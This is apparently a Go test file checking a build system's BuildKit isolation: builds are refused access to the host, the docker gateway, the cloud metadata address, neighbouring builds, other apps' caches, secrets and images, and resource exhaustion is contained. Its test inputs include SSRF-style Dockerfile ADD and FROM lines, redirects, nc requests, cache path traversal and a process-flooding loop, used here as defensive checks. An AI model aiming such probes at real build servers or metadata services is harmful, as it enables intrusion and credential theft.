package buildkit

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/docker/docker/api/types/image"
	control "github.com/moby/buildkit/api/services/control"

	"dokku/build"
	"dokku/build/buildtest"
	"dokku/build/daemon"
)

// onDaemon is an app of a test that the daemon builds.
func onDaemon(t *testing.T, d *buildtest.Daemon) *app {
	a := newApp(t)
	a.daemon = d.Socket
	return a
}

// try builds a revision within a time, and returns what its steps printed.
func (a *app) try(rev string, more ...func(*build.Request)) (printed string, err error) {
	a.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	r := a.request(rev)
	for _, f := range more {
		f(&r)
	}
	r.Progress = func(l build.Line) {
		if l.Kind == build.KindOutput {
			printed += strings.TrimPrefix(l.Text, build.OutputIndent) + "\n"
		}
	}
	_, err = a.solve(ctx, r)
	return printed, err
}

// A listener of the host, which counts who asks it for what.
type listener struct {
	port int
	mu   sync.Mutex
	seen []string
}

func newListener(t *testing.T) *listener {
	l, err := net.Listen("tcp4", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	s := &listener{port: l.Addr().(*net.TCPAddr).Port}
	go http.Serve(l, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.seen = append(s.seen, r.Host+r.URL.Path)
		s.mu.Unlock()
		if to := r.URL.Query().Get("to"); to != "" {
			http.Redirect(w, r, to, http.StatusFound)
			return
		}
		fmt.Fprintln(w, "secret of the host")
	}))
	return s
}

// gateway is the address of the host on the engine's own bridge.
func gateway(t *testing.T) string {
	i, err := net.InterfaceByName("docker0")
	if err != nil {
		t.Fatal(err)
	}
	addresses, _ := i.Addrs()
	for _, a := range addresses {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() {
			return p.Addr().String()
		}
	}
	t.Fatal("docker0 has no address")
	return ""
}

// get is a command that asks an address over HTTP: busybox's own wget does not work when it is
// linked statically.
func get(address string, port int, path string) string {
	return fmt.Sprintf(`printf 'GET /%s HTTP/1.0\r\n\r\n' | nc -w 3 %s %d 2>&1 | tail -n 1`, path, address, port)
}

// TestDaemonReach: a pusher has the builder fetch what listens on the host, for its ADD, its
// base image and its steps, also by a redirection: services on loopback, at the gateway of
// containers, at any address of the host, or the metadata service of a cloud.
func TestDaemonReach(t *testing.T) {
	t.Parallel()
	d := buildtest.NewDaemon(t, nil)
	host := d.Config.HostAddress().String()
	s := newListener(t)
	places := map[string]string{"loopback": "127.0.0.1", "gateway": gateway(t), "device": host, "name": "localhost"}
	conn, err := net.Dial("udp", "192.0.2.1:9") // sends nothing
	if err == nil {
		places["public"] = conn.LocalAddr().(*net.UDPAddr).IP.String()
		conn.Close()
	}
	a := onDaemon(t, d)
	refused := func(what string, err error) {
		t.Helper()
		var failed *build.Error
		if !errors.As(err, &failed) || !strings.Contains(failed.Reason, "builds reach neither this server nor private networks") || strings.Contains(failed.Reason, "\n") {
			t.Errorf("%s: %v", what, err)
		}
	}
	for name, place := range places {
		_, err := a.try(a.repo.Commit("", files{"Dockerfile": fmt.Sprintf("FROM scratch\nADD http://%s:%d/ADD /x\n", place, s.port)}))
		refused("ADD from "+name, err)
		_, err = a.try(a.repo.Commit("", files{"Dockerfile": fmt.Sprintf("FROM %s:%d/x\nCOPY . /\n", place, s.port)}))
		refused("FROM "+name, err)
		if name == "name" {
			continue
		}
		printed, err := a.try(a.shell(get(place, s.port, "RUN") + "; echo end"))
		if err != nil || strings.Contains(printed, "secret") || !strings.HasSuffix(printed, "end\n") {
			t.Errorf("RUN at %s: %q, %v", name, printed, err)
		}
	}
	_, err = a.try(a.repo.Commit("", files{"Dockerfile": "FROM scratch\nADD http://169.254.169.254/latest/meta-data/ /x\n"}))
	refused("metadata", err)
	printed, err := a.try(a.shell(get("169.254.169.254", 80, "") + "; echo end"))
	if err != nil || !strings.Contains(printed, "nc: can't connect to remote host (169.254.169.254): ") || !strings.HasSuffix(printed, "end\n") {
		t.Errorf("RUN at metadata: %q, %v", printed, err)
	}
	if len(s.seen) > 0 {
		t.Errorf("the host was asked: %q", s.seen)
	}
}

// TestDaemonAllowed: an administrator allows an address of the host. A server there cannot
// send a build on to others.
func TestDaemonAllowed(t *testing.T) {
	t.Parallel()
	d := buildtest.NewDaemon(t, nil)
	host := d.Config.HostAddress()
	d.Change(t, func(s *daemon.Settings) { s.Allowed = []netip.Prefix{netip.PrefixFrom(host, 32)} })
	s := newListener(t)
	a := onDaemon(t, d)
	url := fmt.Sprintf("http://%s:%d/", host, s.port)
	if _, err := a.try(a.repo.Commit("", files{"Dockerfile": "FROM scratch\nADD " + url + "allowed /x\n"})); err != nil {
		t.Errorf("ADD: %v", err)
	}
	if printed, err := a.try(a.shell(get(host.String(), s.port, "step"))); err != nil || printed != "secret of the host\n" {
		t.Errorf("RUN: %q, %v", printed, err)
	}
	before := len(s.seen)
	if before == 0 {
		t.Error("nobody asked the address that is allowed")
	}
	for _, place := range []string{"127.0.0.1", gateway(t), "169.254.169.254"} {
		to := fmt.Sprintf("http://%s:%d/stolen", place, s.port)
		_, err := a.try(a.repo.Commit("", files{"Dockerfile": "FROM scratch\nADD " + url + "?to=" + to + " /x\n"}))
		if err == nil || !strings.Contains(err.Error(), "builds reach neither this server nor private networks") {
			t.Errorf("redirected to %s: %v", place, err)
		}
	}
	for _, seen := range s.seen {
		if strings.Contains(seen, "stolen") {
			t.Errorf("the host was asked: %q", s.seen)
		}
	}
}

// TestDaemonNeighbours: a step looks for the steps of other apps in its network.
func TestDaemonNeighbours(t *testing.T) {
	t.Parallel()
	d := buildtest.NewDaemon(t, nil)
	a, b := onDaemon(t, d), onDaemon(t, d)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	address := make(chan string, 1)
	done := make(chan struct{})
	rev := a.shell("ip -4 -o addr show eth0; httpd -f -p 8099")
	r := a.request(rev)
	r.Progress = func(l build.Line) {
		words := strings.Fields(l.Text)
		for i, w := range words {
			if w == "inet" && l.Kind == build.KindOutput {
				own, _, _ := strings.Cut(words[i+1], "/")
				address <- own
			}
		}
	}
	go func() {
		defer close(done)
		a.solve(ctx, r)
	}()
	select {
	case own := <-address:
		printed, err := b.try(b.shell("for i in 1 2 3; do " + get(own, 8099, "") + "; " + get("127.0.0.1", 8099, "") + "; done; echo end"))
		if err != nil || strings.Contains(strings.ToLower(printed), "html") || !strings.Contains(printed, "end") {
			t.Errorf("%q, %v", printed, err)
		}
	case <-time.After(time.Minute):
		t.Error("the step does not run")
	}
	cancel()
	<-done
}

// TestDaemonCaches: an app mounts the cache of another one under its id, also with the other's
// namespace as a build argument, and wants the result of a step that had another app's secret.
func TestDaemonCaches(t *testing.T) {
	t.Parallel()
	d := buildtest.NewDaemon(t, nil)
	a, b := onDaemon(t, d), onDaemon(t, d)
	id := a.name
	if _, err := a.try(a.shell("--mount=type=cache,target=/c,id=" + id + " echo stolen > /c/x")); err != nil {
		t.Fatal(err)
	}
	other, err := os.ReadFile(filepath.Join(filepath.Dir(a.manifest), namespaceFile))
	if err != nil || len(other) != 32 {
		t.Fatalf("%q, %v", other, err)
	}
	for _, want := range []string{id, string(other) + "/" + id, "../" + string(other) + "/" + id} {
		step := "--mount=type=cache,target=/c,id=" + want + " : " + want + "; cat /c/x || echo nothing" // else the cache has the step
		printed, err := b.try(b.shell(step), func(r *build.Request) { r.BuildArgs = map[string]string{argNamespace: string(other)} })
		if err != nil || strings.Contains(printed, "stolen") || !strings.Contains(printed, "nothing") {
			t.Errorf("cache %s: %q, %v", want, printed, err)
		}
	}
	if printed, err := a.try(a.shell("--mount=type=cache,target=/c,id=" + id + " cat /c/x")); err != nil || printed != "stolen\n" {
		t.Errorf("its own: %q, %v", printed, err)
	}
	usage := func() int64 {
		t.Helper()
		conn, err := dialDaemon(d.Socket)
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		u, err := control.NewControlClient(conn).DiskUsage(context.Background(), &control.DiskUsageRequest{Filter: []string{"type==exec.cachemount"}})
		if err != nil {
			t.Fatal(err)
		}
		return int64(len(u.Record))
	}
	before := usage()
	if err := Forget(context.Background(), d.Socket, a.manifest); err != nil || usage() != before-1 {
		t.Errorf("%d caches after one of %d was forgotten: %v", usage(), before, err)
	}
	if printed, err := a.try(a.shell("--mount=type=cache,target=/c,id=" + id + " : forgotten; cat /c/x || echo nothing")); err != nil || strings.Contains(printed, "stolen") {
		t.Errorf("forgotten: %q, %v", printed, err)
	}
	// Both have the same files.
	same := files{"100755 bin/sh": busybox(t), "Dockerfile": "FROM scratch\nCOPY bin /bin/\nRUN --mount=type=secret,id=key mkdir /out; cp /run/secrets/key /out/ || true\n", "bin/unique": a.name}
	build1, err1 := a.solve(context.Background(), a.with(same, "a's password"))
	build2, err2 := b.solve(context.Background(), b.with(same, "b's password"))
	if err1 != nil || err2 != nil {
		t.Fatal(err1, err2)
	}
	found, _ := a.inside(build1.ImageID, "/out")
	if found["key"] != "400 a's password" {
		t.Errorf("a has %q", found)
	}
	if found, _ = b.inside(build2.ImageID, "/out"); found["key"] != "400 b's password" {
		t.Errorf("b has %q", found)
	}
}

// with is a request to build files with a secret.
func (a *app) with(f files, secret string) build.Request {
	r := a.request(a.repo.Commit("", f))
	r.Secrets = map[string]string{"key": secret}
	return r
}

// TestDaemonRefuses: a pusher asks for rights over the host, for the network of the daemon, for
// the image of another app, and for an image that reads its Dockerfile.
func TestDaemonRefuses(t *testing.T) {
	t.Parallel()
	d := buildtest.NewDaemon(t, nil)
	a := onDaemon(t, d)
	other := buildtest.BaseImage(t, a.cli, buildtest.Files{"secret": "stolen"})
	if err := a.cli.ImageTag(context.Background(), other, "dokku/"+a.name+":latest"); err != nil {
		t.Fatal(err)
	}
	defer a.cli.ImageRemove(context.Background(), "dokku/"+a.name+":latest", image.RemoveOptions{})
	for _, lines := range []string{
		"FROM scratch\nCOPY bin /bin/\nRUN --security=insecure true\n",
		"FROM scratch\nCOPY bin /bin/\nRUN --network=host true\n",
		"FROM scratch\nCOPY --from=dokku/" + a.name + " /secret /\n",
		"FROM dokku/" + a.name + "\n",
		"FROM " + other + "\n",
		"# syntax=example.com/evil/frontend\nFROM scratch\nCOPY bin /bin/\n",
	} {
		if printed, err := a.try(a.repo.Commit("", files{"100755 bin/sh": busybox(t), "Dockerfile": lines})); err == nil {
			t.Errorf("was built:\n%s%s", lines, printed)
		} else {
			t.Logf("%q: %v", lines, err)
		}
	}
}

// TestDaemonLocalImages: a build uses an image that only the engine has and that the server
// allows, and no other one. The copy of it does not outlive the build.
func TestDaemonLocalImages(t *testing.T) {
	t.Parallel()
	d := buildtest.NewDaemon(t, nil)
	a := onDaemon(t, d)
	allowed, other := buildtest.BaseImage(t, a.cli, buildtest.Files{"who": "allowed"}, "ENV WHO=me"), buildtest.BaseImage(t, a.cli, buildtest.Files{"who": "other"})
	for id, name := range map[string]string{allowed: "local-test/" + a.name, other: "local-test/other-" + a.name + ":1"} {
		if err := a.cli.ImageTag(context.Background(), id, name); err != nil {
			t.Fatal(err)
		}
		defer a.cli.ImageRemove(context.Background(), name, image.RemoveOptions{})
	}
	with := func(r *build.Request) { r.LocalImages = []string{"local-test/" + a.name, "local-test/none"} }
	for _, lines := range []string{
		"FROM local-test/" + a.name + "\nRUN echo $WHO; cat /who; echo\n",
		"ARG BASE=local-test/" + a.name + ":latest\nFROM $BASE\nRUN echo $WHO; cat /who; echo; true\n",
		"FROM local-test/" + a.name + " AS tools\nFROM scratch\nCOPY --from=local-test/" + a.name + " / /\nRUN [\"/bin/sh\", \"-c\", \"echo me; cat /who; echo\"]\n",
	} {
		if printed, err := a.try(a.repo.Commit("", files{"Dockerfile": lines}), with); err != nil || printed != "me\nallowed\n" {
			t.Errorf("%s: %q, %v", lines, printed, err)
		}
	}
	if printed, err := a.try(a.repo.Commit("", files{"Dockerfile": "FROM local-test/other-" + a.name + ":1\nRUN cat /who\n"}), with); err == nil {
		t.Errorf("another image was used: %q", printed)
	}
	if left, _ := os.ReadDir(filepath.Join(filepath.Dir(a.manifest), localFolder)); len(left) > 0 {
		t.Errorf("left are %v", left)
	}
}

// TestDaemonLimits: steps that take all memory or all processes end, and the daemon goes on.
func TestDaemonLimits(t *testing.T) {
	t.Parallel()
	d := buildtest.NewDaemon(t, func(s *daemon.Settings) { s.Memory, s.Processes = 512<<20, 150 })
	a := onDaemon(t, d)
	if _, err := a.try(a.shell("dd if=/dev/zero of=/dev/null bs=700M count=1")); err == nil || !strings.Contains(err.Error(), "137") && !strings.Contains(err.Error(), "cannot allocate memory") { // cgroups of version 1, and of 2
		t.Errorf("memory: %v", err)
	}
	if printed, err := a.try(a.shell("for i in $(seq 300); do sleep 9 & done 2>&1 | head -n 3; echo end")); err == nil && !strings.Contains(printed, "fork") {
		t.Errorf("processes: %q, %v", printed, err)
	}
	if printed, err := a.try(a.shell("echo works")); err != nil || printed != "works\n" {
		t.Errorf("afterwards: %q, %v", printed, err)
	}
}

// TestDaemonKilled: kill -9 ends the daemon in the middle of a build. The build fails with one
// line, no process of it is left, and the next build works.
func TestDaemonKilled(t *testing.T) {
	t.Parallel()
	d := buildtest.NewDaemon(t, nil)
	a := onDaemon(t, d)
	seconds := fmt.Sprint(200_000_000 + os.Getpid())
	r := a.request(a.shell("echo begun; sleep " + seconds))
	r.Progress = func(l build.Line) {
		if l.Kind == build.KindOutput && l.Text == "  | begun" {
			until(t, 5*time.Second, "the RUN step's start", func() bool { return runs(seconds) })
			syscall.Kill(d.PID(t), syscall.SIGKILL)
		}
	}
	_, err := a.solve(context.Background(), r)
	if err == nil || !strings.Contains(err.Error(), "ended during the build") || !strings.HasSuffix(err.Error(), "push again") || strings.Contains(err.Error(), "\n") {
		t.Errorf("%v", err)
	}
	until(t, 5*time.Second, "the RUN step's end", func() bool { return !runs(seconds) })
	if printed, err := a.try(a.shell("echo works")); err != nil || printed != "works\n" {
		t.Errorf("afterwards: %q, %v; %q", printed, err, d.Said())
	}
}

// TestNoDaemon: a server that has no builder of its own says how to get one, and does not
// build with the engine instead.
func TestNoDaemon(t *testing.T) {
	t.Parallel()
	for _, socket := range []string{"", filepath.Join(t.TempDir(), "none", "buildkitd.sock")} {
		a := newApp(t)
		a.daemon = socket
		r := a.request(a.repo.Commit("", buildtest.ManyFiles(1, 1)))
		r.Isolated = true
		_, err := a.solve(context.Background(), r)
		if err == nil || !strings.Contains(err.Error(), "sudo ./install.sh builder; or build with the engine: dokku builder:set "+a.name+" build-isolation engine") {
			t.Errorf("%q: %v", socket, err)
		}
	}
}
